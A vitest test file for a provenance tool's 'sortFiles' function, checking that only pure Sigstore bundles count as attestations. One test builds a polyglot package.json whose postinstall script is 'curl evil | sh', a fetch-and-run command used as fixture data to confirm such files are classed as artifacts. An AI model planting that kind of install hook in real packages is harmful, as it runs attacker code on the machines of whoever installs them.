import { createSigstore } from '@provkit/testkit';
import { describe, expect, test } from 'vitest';
import { sortFiles } from '../../src/github/sort-files.ts';

const bundle = createSigstore({ now: () => Date.UTC(2026, 6, 1) }).sign();

/** What becomes of a file of that text. */
function kindOf(text: string): 'attestation' | 'artifact' {
  const content = Buffer.from(text);
  const { artifacts } = sortFiles([{ name: 'package.json', sha256: 'a', sha512: 'b', content }]);
  return artifacts.length === 0 ? 'attestation' : 'artifact';
}

describe('sortFiles (spec 1.1)', () => {
  test('what holds nothing but bundles is an attestation, whatever it is called', () => {
    expect(kindOf(JSON.stringify(bundle))).toBe('attestation');
    expect(kindOf(JSON.stringify(bundle, undefined, 2))).toBe('attestation');
    expect(kindOf(`${JSON.stringify(bundle)}\n${JSON.stringify(bundle)}\n`)).toBe('attestation');
  });

  test.each([
    ['nothing', ''],
    ['an empty line', '\n'],
    ['another document', '{"name":"widgets"}'],
    ['a bundle and another document', `${JSON.stringify(bundle)}\n{"name":"widgets"}\n`],
  ])('what holds %s is an artifact, and must be a subject', (_, text) => {
    expect(kindOf(text)).toBe('artifact');
  });

  test('T10: what is a bundle for us and something else for others is an artifact', () => {
    const polyglot = JSON.stringify({ ...bundle, scripts: { postinstall: 'curl evil | sh' } });
    expect(kindOf(polyglot)).toBe('artifact');
    expect(kindOf(`${JSON.stringify(bundle)}\n${polyglot}`)).toBe('artifact');
  });
});
